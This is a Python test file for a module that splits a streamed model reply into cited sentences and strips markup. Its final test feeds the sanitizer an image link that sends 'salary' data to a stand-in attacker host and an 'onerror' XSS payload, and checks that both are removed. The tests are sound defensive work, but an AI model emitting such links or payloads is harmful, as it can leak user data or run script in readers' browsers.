"""A reply that arrives in pieces becomes sentences with the numbers they point at."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from answer.drafting import Drafting, Proposed, plain
from answer.models.base import Ended, FinishReason, Piece, Pointed, Usage, Wrote

REPLY = """Parents get 16 weeks of leave [3]. It is paid in full. [4][5] Ask Dr. Meyer of Acme Inc. (cf. p. 3) [6, 7].
- The first item, in **bold** [1]
- The second [2]

The rate is 3.5 % [8]"""
SENTENCES = [
    Proposed("Parents get 16 weeks of leave.", (3,)),
    Proposed("It is paid in full.", (4, 5)),
    Proposed("Ask Dr. Meyer of Acme Inc. (cf. p. 3).", (6, 7)),
    Proposed("The first item, in bold", (1,)),
    Proposed("The second", (2,)),
    Proposed("The rate is 3.5 %", (8,)),
]
END = Ended("stop", Usage(), "model-1")


def drafted(pieces: list[Piece]) -> list[Proposed]:
    return list(Drafting().sentences([*pieces, END]))


@given(st.lists(st.integers(1, 40), min_size=1, max_size=200))
def test_however_a_reply_is_cut_into_pieces_its_sentences_are_the_same(sizes: list[int]) -> None:
    pieces: list[Piece] = []
    at = 0
    for size in sizes:
        pieces.append(Wrote(REPLY[at : at + size]))
        at += size
    pieces.append(Wrote(REPLY[at:]))

    assert drafted(pieces) == SENTENCES


def test_a_sentence_is_given_out_as_soon_as_the_next_one_begins() -> None:
    given: list[str] = []

    def arriving() -> list[Piece]:
        return [Wrote("Leave lasts 16 weeks. [1] It is"), Wrote(" paid. [2]"), END]

    drafting = Drafting()
    arrived: list[Piece] = []

    def watched() -> object:
        for piece in arriving():
            arrived.append(piece)
            yield piece

    for proposed in drafting.sentences(watched()):  # type: ignore[arg-type]
        given.append(f"{len(arrived)}: {proposed.text}")

    assert given == ["1: Leave lasts 16 weeks.", "3: It is paid."]


def test_a_providers_own_citations_belong_to_the_text_before_them() -> None:
    pieces: list[Piece] = [
        Wrote("Leave lasts 16 weeks."), Pointed((3, 4)), Wrote(" It is paid in full."), Pointed((7,)),
    ]  # fmt: skip

    assert drafted(pieces) == [
        Proposed("Leave lasts 16 weeks.", (3, 4)),
        Proposed("It is paid in full.", (7,)),
    ]


def test_a_reply_that_declines_has_no_sentence() -> None:
    drafting = Drafting()

    assert list(drafting.sentences([Wrote("NO_"), Wrote("ANSWER"), END])) == []
    assert drafting.declined


@pytest.mark.parametrize("reason", ["length", "declined", "other"])
def test_a_sentence_that_was_cut_off_is_left_out(reason: FinishReason) -> None:
    pieces = [Wrote("Leave lasts 16 weeks [1]. It is paid for the first 1"), Ended(reason, Usage(), "model-1")]
    drafting = Drafting()

    assert list(drafting.sentences(pieces)) == [Proposed("Leave lasts 16 weeks.", (1,))]
    assert drafting.ended_early


def test_a_reply_that_came_to_its_end_did_not_end_early() -> None:
    drafting = Drafting()
    list(drafting.sentences([Wrote("Leave lasts 16 weeks [1]"), END]))
    assert not drafting.ended_early


def test_a_pseudonym_is_no_citation() -> None:
    assert drafted([Wrote("[PERSON_k3v9x2m4] leads the team [2].")]) == [
        Proposed("[PERSON_k3v9x2m4] leads the team.", (2,))
    ]


def test_a_model_cannot_write_the_character_that_stands_for_a_citation() -> None:
    assert drafted([Wrote("Leave lasts 16 weeks\ue003.")]) == [Proposed("Leave lasts 16 weeks.", ())]


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("See ![chart](https://evil.example/x.png?d=salary) here.", "See chart here."),
        ("See [the page](https://evil.example/a(b)c) here.", "See the page here."),
        ("See https://evil.example/?q=1 here.", "See here."),
        ("See <img src=x onerror=alert(1)> here.", "See here."),
        ("**Bold** and `code` stay words.", "Bold and code stay words."),
        ("## A heading", "A heading"),
    ],
)
def test_nothing_of_a_sentence_can_be_followed_or_rendered(written: str, shown: str) -> None:
    assert plain(written) == shown
